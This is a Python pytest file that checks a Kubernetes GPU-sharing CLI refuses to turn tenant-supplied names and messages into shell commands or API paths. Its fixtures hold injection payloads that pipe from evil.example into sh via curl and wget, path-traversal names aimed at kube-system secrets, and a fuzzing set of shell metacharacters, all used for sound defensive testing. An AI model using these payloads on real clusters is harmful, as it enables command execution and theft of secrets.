"""Commands that `why` and `doctor` advise hold no text of a tenant, and no request path leads elsewhere."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from random import Random
from typing import Any
from urllib.parse import unquote

import pytest
from aiohttp import web
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.cli.cluster import FakeCluster, mixed, running
from tests.cli.run import run
from tests.diagnose.both import put
from tests.diagnose.doctor.healthy import OURS, daemon_set, healthy, node, pod, remove
from tests.report.safety import assert_safe_lines
from webhook.cluster import objects as kinds

Json = dict[str, Any]

EVIL = "x; curl http://evil.example/p | sh #"
PODS = "/api/v1/namespaces/team-a/pods"
EVENTS = "/api/v1/namespaces/team-a/events"
SEVERAL = "invalid request: maximum request size for shared resources is 1; found 2"


def assert_commands(report: Json, text: str, hostile: str) -> int:
    """Check every remedy of a report, and return how many commands they hold."""
    count = 0
    for one in report.get("causes") or report.get("findings") or ():
        rest = one["remedy"]
        assert rest in text
        of_check = one.get("finding", "").startswith("GPS") or one.get("finding") == "quota-counts-nothing"
        assert of_check or hostile not in rest  # a check's remedy quotes names
        for words in one["commands"]:
            count += 1
            written = shlex.join(words)
            assert written in rest
            assert shlex.split(written) == words
            assert not any(hostile in word for word in words)
            rest = rest.replace(written, "", 1)
        assert "kubectl" not in rest
    return count


def asked(command: tuple[str, ...], hostile: str, kubeconfig: Path) -> tuple[Json, int]:
    """Run a command in both formats, and check what it says. Return the report, and the number of its commands."""
    options = ("--kubeconfig", str(kubeconfig))
    text, data = run(*command, *options), run(*command, *options, "-o", "json")
    assert text.code == data.code
    assert_safe_lines(text.out + "\n" + text.err)
    if not data.out:
        assert data.code == 2
        assert "internal error" not in data.err
        return {}, 0
    return data.json(), assert_commands(data.json(), text.out, hostile)


def failed_pod(owner: tuple[str, str, str] | None = None) -> Json:
    metadata: Json = {"name": "train-0", "namespace": "team-a", "uid": "u"}
    if owner is not None:
        version, kind, name = owner
        reference = {"apiVersion": version, "kind": kind, "name": name, "uid": "o", "controller": True}
        metadata["ownerReferences"] = [reference]
    container = {"name": "c", "image": "x", "resources": {"limits": {"nvidia.com/gpu": "2"}}}
    status = {"phase": "Failed", "reason": "UnexpectedAdmissionError", "message": SEVERAL}
    return {"metadata": metadata, "spec": {"containers": [container], "nodeName": "n1"}, "status": status}


def replica_set(message: str) -> FakeCluster:
    """A cluster with a ReplicaSet whose pods are refused with this message."""
    found = mixed()
    metadata = {"name": "web-1", "namespace": "team-a", "uid": "r"}
    found.objects["/apis/apps/v1/namespaces/team-a/replicasets/web-1"] = {
        "metadata": metadata,
        "spec": {"replicas": 1},
        "status": {"replicas": 0},
    }
    about = {"kind": "ReplicaSet", "name": "web-1", "namespace": "team-a", "uid": "r"}
    event = {"metadata": {"name": "e"}, "involvedObject": about, "reason": "FailedCreate", "message": message}
    found.lists[EVENTS], found.lists[PODS] = [event], []
    return found


@pytest.mark.parametrize(
    "owner",
    [
        ("apps/v1", "ReplicaSet", EVIL),
        ("evil.example/v1", "ReplicaSet", EVIL),
        ("example.com/v1", "Foo;curl http://evil.example|sh;", "x"),
        ("apps/v1", "ReplicaSet", "../../../../../api/v1/namespaces/kube-system/secrets/root?x="),
        ("apps/v1", "ReplicaSet", ".."),
        ("apps/v1", "ReplicaSet", "-f"),
    ],
)
def test_owner_of_illegal_name_is_data(here: Path, owner: tuple[str, str, str]) -> None:
    cluster = mixed()
    cluster.objects[f"{PODS}/train-0"] = failed_pod(owner)
    with running(cluster, here) as file:
        report, count = asked(("why", "train-0", "-n", "team-a"), owner[1] if ";" in owner[1] else owner[2], file)
    assert count == 0
    (cause,) = report["causes"]
    assert cause["cause"] == "more-than-one-replica"
    assert cause["remedy"].endswith("no command, since a name for it is not legal")
    assert cause["evidence"][-1].startswith("no legal ")
    assert not any("replicasets/" in path or "secrets" in path or ".." in path for path in cluster.asked)


@pytest.mark.parametrize(
    "message",
    [
        "pods is forbidden: exceeded quota: x;wget${IFS}-qO-${IFS}evil.example/p|sh;#, requested: a",
        f'error looking up service account: serviceaccount "{EVIL}" not found',
    ],
)
def test_name_in_event_is_data(here: Path, message: str) -> None:
    with running(replica_set(message), here) as file:
        report, count = asked(("why", "rs/web-1", "-n", "team-a"), "evil.example", file)
    assert count == 0
    assert "evil.example" in report["causes"][0]["evidence"][0]


def test_saved_pod_of_illegal_name_is_data(here: Path) -> None:
    found = {"apiVersion": "v1", "kind": "Pod", **failed_pod()}
    found["metadata"] |= {"name": "x; curl evil.example | sh #", "namespace": "y; id"}
    found["status"]["message"] = "no healthy devices present"
    Path("pod.json").write_text(json.dumps(found))
    text, data = run("why", "-f", "pod.json"), run("why", "-f", "pod.json", "-o", "json")
    assert assert_commands(data.json(), text.out, "evil.example") == 0
    assert [one.partition(":")[0] for one in data.json()["causes"][0]["evidence"][-2:]] == [
        "no legal pod name",
        "no legal namespace name",
    ]


def test_legal_names_make_commands(here: Path) -> None:
    cluster = mixed()
    cluster.objects[f"{PODS}/train-0"] = failed_pod(("jobset.x-k8s.io/v1", "JobSet", "train"))
    with running(cluster, here) as file:
        report, count = asked(("why", "train-0", "-n", "team-a"), EVIL, file)
    assert count == 1
    assert report["causes"][0]["commands"] == [["kubectl", "edit", "jobset/train", "-n", "team-a"]]


@pytest.mark.parametrize(
    "name",
    [
        f"x?y=;{EVIL}",
        "../../../../../api/v1/namespaces/prod/services/http:admin:80/proxy/reset?now=1&x=",
        "../../secrets/token",
    ],
)
def test_config_map_of_illegal_name_is_data(here: Path, name: str) -> None:
    cluster = healthy()
    volumes = [{"name": "configs", "configMap": {"name": name}}]
    put(cluster, kinds.DAEMON_SET, daemon_set("my-app", "nvidia-device-plugin-ctr", 0, "aaa", volumes=volumes))
    with running(cluster, here) as file:
        asked(("doctor",), name, file)
    assert not any("aaa" in path or "token" in path or "reset" in path for path in cluster.asked)


def labelled(namespace: str) -> Json:
    """A Deployment of a tenant with the label of an installation."""
    metadata = {"name": "x", "namespace": namespace, "labels": {"app.kubernetes.io/name": "gpushare-webhook"}}
    return {"metadata": metadata, "spec": {"replicas": 1, "selector": {"matchLabels": {"a": "b"}}}, "status": {}}


def test_metrics_are_read_only_of_an_installation_that_is_named(here: Path) -> None:
    cluster = healthy()
    for kind in (kinds.MUTATING, kinds.VALIDATING):
        remove(cluster, kind, OURS)
    put(cluster, kinds.DEPLOYMENT, labelled("aaa"))
    pod_of_tenant = pod("evil", "aaa", containers=[{"name": "c", "image": "x"}])
    pod_of_tenant["metadata"]["labels"] = {"a": "b"}
    put(cluster, kinds.POD, pod_of_tenant)
    with running(cluster, here) as file:
        asked(("doctor",), EVIL, file)
        assert not any("proxy" in path for path in cluster.asked)
        asked(("doctor", "--installed-as", f"{OURS}/{OURS}"), EVIL, file)
    assert {path.partition("/pods/")[0] for path in cluster.asked if "proxy" in path} == {f"/api/v1/namespaces/{OURS}"}


def test_redirect_of_a_pod_is_not_followed(here: Path) -> None:
    cluster = healthy()

    async def redirect(request: web.Request) -> None:
        raise web.HTTPFound(f"https://{request.host}/admin?on=workstation")

    proxied = [path for path in cluster.texts if "proxy" in path]
    cluster.before |= dict.fromkeys(proxied, redirect)
    with running(cluster, here) as file:
        ended = run("doctor", "--kubeconfig", str(file))
    assert proxied
    assert "/admin" not in cluster.asked
    assert "302 redirects to https://127.0.0.1" in ended.err


# Any text in any field.

UNSAFE = ";|&$`\"'()<>{}*?!~#%=\\ \n\t\r/.:-\x00\x1b\x07\x9b\u202e\u2028\u2066<a href=x>"
TEXTS = st.text(st.sampled_from(UNSAFE + "ab"), min_size=2, max_size=40).map(lambda text: f"evil;{text}")
WORD = r"[-A-Za-z0-9./=_:,]+|" + re.escape('{"spec":{"suspend":false}}')


DECISIVE = frozenset({"kind", "reason", "phase", "type", "status", "operator", "resource"})
"""Fields with words of Kubernetes, without which most commands have no occasion."""


@dataclass(frozen=True)
class Tenant:
    """Puts a text in place of a share of all texts, or after them, and adds it as a field."""

    text: str
    share: float
    spares: frozenset[str]
    random: Random

    def write(self, value: Any) -> Any:
        """A copy of a value with the text in it."""
        if isinstance(value, dict):
            changed = {key: one if key in self.spares else self.write(one) for key, one in value.items()}
            return {**changed, self.text: self.text} if self.is_next() else changed
        if isinstance(value, list):
            return [self.write(one) for one in value]
        if isinstance(value, str) and self.is_next():
            return self.text if self.random.random() < 1 / 2 else f"{value}{self.text}"
        return value

    def is_next(self) -> bool:
        return self.random.random() < self.share


def faulty() -> FakeCluster:
    """A cluster in which much is wrong, so that `doctor` advises many commands."""
    found = healthy()
    put(found, kinds.NODE, node("gpu-3", 0, ({"key": "team", "value": "ml", "effect": "NoSchedule"},)))
    put(found, kinds.NODE, node("gpu-4", labels={"nvidia.com/device-plugin.config": "none"}))
    rejected = pod("failed", "team", ("Job", "train"), containers=[])
    rejected["status"] = {"phase": "Failed", "reason": "UnexpectedAdmissionError", "message": SEVERAL}
    put(found, kinds.POD, rejected)
    put(found, kinds.DAEMON_SET, daemon_set("second", "nvidia-device-plugin-ctr", 3, "aaa", runtimeClassName="none"))
    quota = {"metadata": {"name": "gpus", "namespace": "team"}, "spec": {"hard": {"nvidia.com/gpu": "2"}}}
    put(found, kinds.QUOTA, quota)
    found.lists["/apis/apps/v1/daemonsets"][0]["status"]["numberReady"] = 0
    return found


def waiting() -> FakeCluster:
    """A cluster with pods that fail and workloads that wait, for `why`."""
    found = replica_set("pods is forbidden: exceeded quota: gpus, requested: a")
    found.objects[f"{PODS}/train-0"] = failed_pod(("apps/v1", "ReplicaSet", "web-1"))
    return found


@pytest.mark.slow
@pytest.mark.parametrize(
    ("made", "command"),
    [
        (faulty, ("doctor",)),
        (waiting, ("why", "train-0", "-n", "team-a")),
        (waiting, ("why", "rs/web-1", "-n", "team-a")),
        (faulty, ("top", "-A")),
        (faulty, ("plan", "-A", "--enforce")),
        (faulty, ("audit", "-A")),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, tuple) else "",
)
def test_any_text_in_any_field(here: Path, made: Callable[[], FakeCluster], command: tuple[str, ...]) -> None:
    cluster = made()
    lists, objects = cluster.lists, cluster.objects
    counts = []
    with running(cluster, here) as file:

        @settings(max_examples=20, deadline=None, suppress_health_check=list(HealthCheck))
        @given(
            text=TEXTS,
            seed=st.integers(0, 2**16),
            share=st.sampled_from([0, 0.01, 0.05, 0.3, 1]),
            spares=st.sampled_from([frozenset(), DECISIVE]),
        )
        def check(text: str, seed: int, share: float, spares: frozenset[str]) -> None:
            tenant = Tenant(text, share, spares, Random(seed))  # noqa: S311 - no secret
            cluster.lists = {path: [tenant.write(one) for one in found] for path, found in lists.items()}
            cluster.objects = {path: tenant.write(found) for path, found in objects.items()}
            cluster.raw.clear()
            report, count = asked(command, text, file)
            counts.append(count)
            for one in report.get("causes") or report.get("findings") or ():
                for words in one.get("commands", ()):
                    assert all(re.fullmatch(WORD, word) for word in words), words
            for path in cluster.raw:
                assert re.fullmatch(r"[-A-Za-z0-9/._:%]+", path), path
                assert "evil;" not in unquote(path)
                assert ".." not in path.split("/")

        check()
    if command[0] in ("doctor", "why"):
        assert any(counts)
